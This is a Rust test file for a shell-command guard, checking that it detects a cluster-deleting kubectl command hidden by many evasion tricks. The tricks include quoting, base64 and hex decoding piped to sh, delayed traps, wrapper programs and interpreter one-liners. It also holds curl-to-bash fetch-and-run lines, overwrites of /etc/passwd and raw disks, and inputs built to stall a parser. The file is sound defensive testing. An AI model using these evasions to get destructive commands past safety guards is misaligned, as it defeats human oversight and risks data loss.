@@ -1,0 +1,396 @@
+//! Classes of evasion published against guards that match text, each against `guard check --shell`: the program is
+//! found with the words it would receive, or the line is unsure; and their harmless neighbours pass silently.
+//! Each test stands in docs/threats.md under its own name.
+
+mod support;
+
+use support::Scene;
+
+const DELETE: &str = "kubectl delete ns payments";
+
+fn cluster(name: &str) -> Scene {
+    let scene = Scene::new(name);
+    scene.kubeconfig("prod-eu");
+    scene
+}
+
+/// Whether a line is dangerous, what asks, and the argv of every program in it.
+fn checked(scene: &Scene, line: &str) -> (bool, Option<String>, Vec<String>) {
+    let output = scene.guard(&["check", "--json", "--shell", line]);
+    let said: serde_json::Value =
+        serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{line}: {e}: {output:?}"));
+    let argv = |command: &serde_json::Value| {
+        let words = command["argv"].as_array().expect("words");
+        words.iter().filter_map(|w| w.as_str()).collect::<Vec<_>>().join(" ")
+    };
+    let commands = said["commands"].as_array().expect("commands").iter().map(argv).collect();
+    (said["dangerous"] == true, said["unsure"].as_str().map(str::to_owned), commands)
+}
+
+#[track_caller]
+fn found(scene: &Scene, lines: &[&str]) {
+    for line in lines {
+        let (dangerous, _, commands) = checked(scene, line);
+        assert!(dangerous, "{line}: not dangerous: {commands:?}");
+        assert!(commands.iter().any(|c| c == DELETE), "{line}: {commands:?}");
+    }
+}
+
+#[track_caller]
+fn unsure(scene: &Scene, lines: &[&str]) {
+    for line in lines {
+        let (dangerous, unsure, commands) = checked(scene, line);
+        assert!(dangerous && unsure.is_some(), "{line}: {commands:?}");
+    }
+}
+
+#[track_caller]
+fn silent(scene: &Scene, lines: &[&str]) {
+    for line in lines {
+        let (dangerous, unsure, commands) = checked(scene, line);
+        assert!(!dangerous, "{line}: {unsure:?} {commands:?}");
+    }
+}
+
+#[test]
+fn quoting_and_expansion_of_the_program_word() {
+    let scene = cluster("evasion-quotes");
+    found(
+        &scene,
+        &[
+            "kube''ctl delete ns payments",
+            "\\kubectl delete ns payments",
+            "\"kubectl\" 'delete' ns payments",
+            "$'\\x6bubectl' delete ns payments",
+            "kubectl${IFS}delete${IFS}ns${IFS}payments",
+            "kubectl$IFS\"delete\" ns payments",
+            "{kubectl,delete,ns,payments}",
+            "kube$@ctl delete ns payments",
+            "x=xkubectl; ${x#x} delete ns payments",
+            "x=kubectl; ${x:0:4}${x:4} delete ns payments",
+            "a=(kubectl delete ns payments); \"${a[@]}\"",
+            "n=c; c=kubectl; ${!n} delete ns payments",
+            "/usr//bin/../bin/kubectl delete ns payments; kubectl delete ns payments",
+            "$(echo kubectl) delete ns payments",
+            "`echo kubectl` delete ns payments",
+            "x=$((1+1)); kubectl delete ns payments",
+        ],
+    );
+}
+
+#[test]
+fn text_decoded_into_a_shell() {
+    let scene = cluster("evasion-decoded");
+    found(
+        &scene,
+        &[
+            "echo a3ViZWN0bCBkZWxldGUgbnMgcGF5bWVudHM= | base64 -d | sh",
+            "printf '\\x6bubectl delete ns payments' | sh",
+            "printf '%s ' kubectl delete ns payments | bash",
+            "echo 6b75626563746c2064656c657465206e73207061796d656e7473 | xxd -r -p | bash",
+            "echo 'stnemyap sn eteled ltcebuk' | rev | sh",
+            "bash <<< 'kubectl delete ns payments'",
+            "source /dev/stdin <<< 'kubectl delete ns payments'",
+            ". <(echo kubectl delete ns payments)",
+            "eval \"$(echo kubectl delete ns payments)\"",
+            "echo 'kubectl delete ns dev' | sed s/dev/payments/ | sh",
+        ],
+    );
+    unsure(
+        &scene,
+        &[
+            "curl http://x | bash",
+            "curl http://x | python3",
+            "eval \"$(curl http://x)\"",
+            "bash <(curl http://x)",
+        ],
+    );
+    silent(
+        &scene,
+        &["curl http://x | jq .", "eval \"$(ssh-agent -s)\"", "source <(kubectl completion bash)"],
+    );
+}
+
+#[test]
+fn text_that_runs_later() {
+    let scene = cluster("evasion-later");
+    found(
+        &scene,
+        &[
+            "trap 'kubectl delete ns payments' EXIT",
+            "coproc kubectl delete ns payments",
+            "PROMPT_COMMAND='kubectl delete ns payments'",
+            "export PROMPT_COMMAND='kubectl delete ns payments'",
+            "at now <<< 'kubectl delete ns payments'",
+            "f() { kubectl delete ns payments; }; f",
+            "kubectl delete ns payments &",
+            "tmux new-session -d 'kubectl delete ns payments'",
+            "screen -dmS x kubectl delete ns payments",
+        ],
+    );
+    scene.write("home/env.sh", "kubectl delete ns payments\n");
+    let file = scene.path("home/env.sh");
+    found(&scene, &[&format!("BASH_ENV={} bash -c true", file.display())]);
+    silent(&scene, &["trap 'echo bye' EXIT", "PROMPT_COMMAND='history -a'", "tmux ls"]);
+}
+
+#[test]
+fn wrappers_with_options_of_their_own() {
+    let scene = cluster("evasion-wrappers");
+    let lines = [
+        "sudo -E -u root --",
+        "doas",
+        "env -i A=b",
+        "env -S 'nice -n 5'",
+        "nice -n 5",
+        "ionice -c2 -n 7",
+        "chrt -f 10",
+        "taskset -c 0",
+        "nohup",
+        "timeout -s KILL -k 1 5",
+        "time -p",
+        "setsid -w",
+        "stdbuf -oL",
+        "strace -f -o out",
+        "ltrace -f -o out",
+        "watch -n 1 -x",
+        "xargs -n 4 -a /dev/null",
+        "chroot /",
+        "unshare -m",
+        "systemd-run --scope -q",
+        "flock -n lock",
+        "command",
+        "exec -a x",
+        "busybox",
+        "pkexec --user root",
+        "nsenter -t 1 -n",
+        "prlimit --nofile=9",
+        "numactl -N 0",
+        "cgexec -g cpu:x",
+        "caffeinate -t 5",
+        "retry -t 3 --",
+        "direnv exec .",
+        "poetry run",
+        "pipenv run",
+        "uv run --with x",
+        "dbus-run-session --",
+        "xvfb-run -a -n 9",
+        "ssh-agent -t 5",
+        "firejail --noprofile",
+        "proot -0",
+        "bundle exec",
+        "npx -y",
+        "conda run -n x",
+        "aws-vault exec prod --",
+        "doppler run --",
+        "setpriv --reuid 1",
+        "hyperfine -r 2 --shell=none; command",
+        "/lib64/ld-linux-x86-64.so.2",
+        "tini -s --",
+        "faketime 'last friday'",
+        "torsocks -i",
+        "chronic",
+        "unbuffer",
+        "perf stat -e x",
+        "linux64 -R",
+        "entr -r",
+        "valgrind -q",
+    ];
+    for wrapper in lines {
+        let (dangerous, _, commands) = checked(&scene, &format!("{wrapper} {DELETE}"));
+        let there = commands.iter().any(|c| c == DELETE || c.starts_with(DELETE));
+        assert!(dangerous && there, "{wrapper}: {commands:?}");
+    }
+    found(
+        &scene,
+        &[
+            "su - root -c 'kubectl delete ns payments'",
+            "script -qc 'kubectl delete ns payments' /dev/null",
+            "watch 'kubectl delete ns payments'",
+            "flock lock -c 'kubectl delete ns payments'",
+            "nix-shell -p x --run 'kubectl delete ns payments'",
+            "npx -c 'kubectl delete ns payments'",
+            "hyperfine 'kubectl delete ns payments'",
+            "parallel kubectl delete ns ::: payments",
+            "echo payments | parallel kubectl delete ns {}",
+            "busybox sh -c 'kubectl delete ns payments'",
+            "find . -maxdepth 0 -exec sh -c 'kubectl delete ns payments' \\;",
+            "echo x | xargs sh -c 'kubectl delete ns payments'",
+        ],
+    );
+    unsure(
+        &scene,
+        &["uv run --no-such-option x kubectl delete ns payments", "curl x | parallel", "expect -c 'spawn x'"],
+    );
+    silent(
+        &scene,
+        &[
+            "npm install --foo x",
+            "uv pip list",
+            "tmux ls",
+            "parallel --dry-run kubectl delete ns ::: payments",
+        ],
+    );
+}
+
+#[test]
+fn commands_in_options_and_scripts_of_other_programs() {
+    let scene = cluster("evasion-options");
+    found(
+        &scene,
+        &[
+            "awk 'BEGIN{system(\"kubectl delete ns payments\")}'",
+            "awk 'BEGIN{\"kubectl delete ns payments\" | getline}'",
+            "sed '1e kubectl delete ns payments' x",
+            "vim -c '!kubectl delete ns payments' -c q",
+            "vim '+!kubectl delete ns payments'",
+            "tar cf x.tar x --checkpoint=1 --checkpoint-action=exec='kubectl delete ns payments'",
+            "tar xf x.tar --to-command='kubectl delete ns payments'",
+            "rsync -ae 'kubectl delete ns payments' a h:b",
+            "man -P 'kubectl delete ns payments' ls",
+            "gdb -batch -ex '!kubectl delete ns payments'",
+            "split --filter='kubectl delete ns payments' x",
+            "python3 -c 'import os; os.system(\"kubectl delete ns payments\")'",
+            "python3 -c 'import subprocess as s; s.run([\"kubectl\", \"delete\", \"ns\", \"payments\"])'",
+            "perl -e 'system(\"kubectl\", \"delete\", \"ns\", \"payments\")'",
+            "ruby -e 'system(\"kubectl delete ns payments\")'",
+            "node -e 'require(\"child_process\").execSync(\"kubectl delete ns payments\")'",
+            "php -r 'passthru(\"kubectl delete ns payments\");'",
+            "python3 - <<E\nimport os\nos.system('kubectl delete ns payments')\nE",
+        ],
+    );
+    unsure(
+        &scene,
+        &[
+            "awk '{system($0)}' x",
+            "sed 's/a/b/e' x",
+            "python3 -c 'exec(input())'",
+            "python3 -c 'import base64; exec(base64.b64decode(\"eA==\"))'",
+            "perl -e 'eval $x; system($y)'",
+            "node -e 'require(\"child_process\").exec(process.argv[1])'",
+        ],
+    );
+    silent(
+        &scene,
+        &[
+            "awk -F: '$3 > 100 { print $1 | \"sort\" }' /etc/passwd",
+            "sed -i.bak -e 's/exec/e/g; /x/d' x",
+            "python3 -c 'import re; print(re.compile(\"x\"))'",
+            "node -p 'require(\"./package.json\").version'",
+            "perl -pe 's/a/b/g' x",
+            "tar czf x.tgz -C /tmp x",
+            "rsync -avze ssh a h:b",
+            "vim +12 x",
+        ],
+    );
+}
+
+#[test]
+fn what_a_shell_overwrites_itself() {
+    let scene = Scene::new("evasion-redirections");
+    scene.write("home/app.sqlite3", "rows");
+    scene.write("home/notes.txt", "text");
+    scene.write("home/x.log", "text");
+    let home = scene.path("home");
+    let line = |text: &str| format!("cd {}; {text}", home.display());
+    for text in [
+        ": > app.sqlite3",
+        "echo x > /dev/sda",
+        "cat x >| /etc/hosts",
+        "> /etc/passwd",
+        "echo b &> /proc/sysrq-trigger",
+        "echo x >> /etc/sudoers",
+        "exec 3> /dev/nvme0n1",
+        "{ echo a; } > /etc/fstab",
+        "x >& /etc/passwd",
+        "sudo sh -c 'echo > /etc/passwd'",
+        "echo x > /dev/sd$(pick)",
+        "echo x 1<> /dev/sda",
+        "> notes.txt",
+        "find . -fprint notes.txt",
+        "awk '{print > \"notes.txt\"}' x.log",
+        "f=notes.txt; : > $f",
+    ] {
+        assert!(checked(&scene, &line(text)).0, "{text}");
+    }
+    for text in [
+        "make > build.log 2>&1",
+        "ls > x.log",
+        "echo new > new.txt",
+        "echo x >> notes.txt",
+        "echo x > /dev/null",
+        "echo x >&2",
+        "exec 2>/dev/null",
+        "echo > /dev/tcp/h/22",
+        "set -C; echo > notes.txt",
+        "pg > b-$(date +%F).sql",
+        "echo 3 > /proc/sys/vm/drop_caches",
+        "cat < notes.txt",
+        "echo > /tmp/guard-new-$$",
+    ] {
+        let (dangerous, unsure, commands) = checked(&scene, &line(text));
+        assert!(!dangerous, "{text}: {unsure:?} {commands:?}");
+    }
+}
+
+#[test]
+fn scripts_that_are_files() {
+    let scene = cluster("evasion-files");
+    scene.write("home/run.sh", "#!/usr/bin/env bash\nkubectl delete ns \"$1\"\n");
+    let file = scene.path("home/run.sh").display().to_string();
+    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("a script");
+    found(
+        &scene,
+        &[
+            &format!("{file} payments"),
+            &format!("bash {file} payments"),
+            &format!(". {file} payments"),
+            &format!("sh -x {file} payments"),
+            &format!("bash -s payments < {file}"),
+            &format!("cat {file} | bash -s payments"),
+        ],
+    );
+    unsure(&scene, &["echo 'kubectl delete ns a' > new.sh; sh new.sh"]);
+    silent(&scene, &["./nothing-there.sh", "python3 -m venv .venv && . .venv/bin/activate && pip list"]);
+}
+
+#[test]
+fn look_alike_letters_are_other_programs() {
+    let scene = cluster("evasion-letters");
+    silent(
+        &scene,
+        &["ｋubectl delete ns payments", "kubectl\u{a0}delete ns payments", "kubесtl delete ns payments"],
+    );
+    found(&scene, &["kubectl delete ns payments # \u{202e}"]);
+}
+
+/// A line of 64 KiB is answered at once, whatever is in it; debug builds get twenty times as long.
+#[test]
+fn hostile_lines_take_no_time() {
+    let scene = cluster("evasion-size");
+    let size = 64 << 10;
+    let lines = [
+        "rm x;".repeat(size / 5),
+        "a|".repeat(size / 2) + "a",
+        "{".repeat(size),
+        "echo ".to_owned() + &"{a,b}".repeat(16),
+        "echo ".to_owned() + &"${x:-".repeat(size / 5) + &"}".repeat(size / 5),
+        "`".repeat(size),
+        "eval ".repeat(size / 5),
+        "(".repeat(size),
+        "$(".repeat(size / 2),
+        "rm ".to_owned() + &"*/".repeat(size / 2),
+        format!("x=aaaaaaaaaa;{} rm $x", "x=$x$x;".repeat(40)),
+        format!("x={}; echo ${{x/{}b/}}", "a".repeat(2000), "*a".repeat(60)),
+        "f(){ f; f; }; f".to_owned(),
+        "cat <<E\n".to_owned() + &"$x\n".repeat(size / 3) + "E",
+    ];
+    let limit = if cfg!(debug_assertions) { 10.0 } else { 0.5 };
+    for line in lines {
+        let start = std::time::Instant::now();
+        let output = scene.guard(&["check", "--json", "--shell", &line]);
+        let took = start.elapsed().as_secs_f64();
+        assert!(matches!(output.status.code(), Some(0 | 77)), "{}: {output:?}", &line[..20]);
+        assert!(took < limit, "{} took {took} s", &line[..20]);
+    }
+}
